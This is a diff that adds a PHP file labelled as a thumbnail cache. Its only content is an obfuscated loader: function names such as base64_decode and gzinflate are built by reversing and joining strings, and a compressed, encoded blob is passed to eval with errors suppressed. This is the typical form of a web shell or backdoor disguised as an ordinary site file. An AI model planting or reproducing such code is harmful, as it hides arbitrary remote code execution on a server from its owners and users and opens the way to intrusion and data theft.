@@ -1,0 +1,15 @@
+<?php
+/* thumbnail cache */
+$q=strrev("edoced_46esab");$z="gz"."inf"."late";
+@eval($z($q('dVNrT9swFP3eX2Eqb44lkz6AgZplwHhoSFRlkE2aSlWl7g3J6sSZ7ahlFf99N6WFgrRETmzfcx/n
++DpLPI+ObwZ30ZDN2Oj4mDG+E4bs75+jDuPL1LlybMCWurAwlnoK3n57nwewyFzw1EiqQrpMF8R4
+1PLlVC+pCpMHcBbX4qDT5cHTPM0UeFRh1CRWFj5+tNXEOvRQYk90eIjZdhkPDLjKFMRDU1Y8cKow
+Pp2EQ/ZLV4bEUuqqcMS62EEOOMssMRBPH5lgX8E6UppMgiWJNmQeO5ni3KUImgPMEHOZFbEihXaI
+6pEyNhIUAjOHydgoaKAfxDL1YFGqmmbzvmiKjTJTNuIktoQ6vmxQF2KJuYeLgKbhcBTQef3NEm8H
+qecLY7w1RRxGpkjVCXbCOLIVNBV0zrnUBWauIIiNiR/HeaVcZrVxHp0jhAcNasOTxGo50yUUHk2H
+7ZHoHghaCAriiK+yoeYvcRqrIwiSuckc1Oo3L75dD8iw0z302/h2RvcGKaHOK1yDJuG6yHx6UHMR
+bQzrY5n+u/0j8Qn3fVjEeamAoVSvOfqnV9fk8nbQ732myZc3GbZQt2c3EYkGiHEbDJa/TrNCY/LO
+qu+62HRbnt9/XEVrj0QqbWEV+oX003Yt56fR6VuOW8ZLo/Me2RQZ6Xr+XMxdNfkN0vVI06eToTRy
+r1vT/rA38pu1/RwbrjZO8e8xw/jzdv+qf7H7E4zF9u+Rjt+uN8+wMOzN3eixRB8HC9cqVZwVta0e
+9XXqtVrN9xJ3xSGG9XWSYMCN0q3aw/8voy1p1oK/ClRZBVB6h+36wTvYAJlqwvQMT+8f
+')));
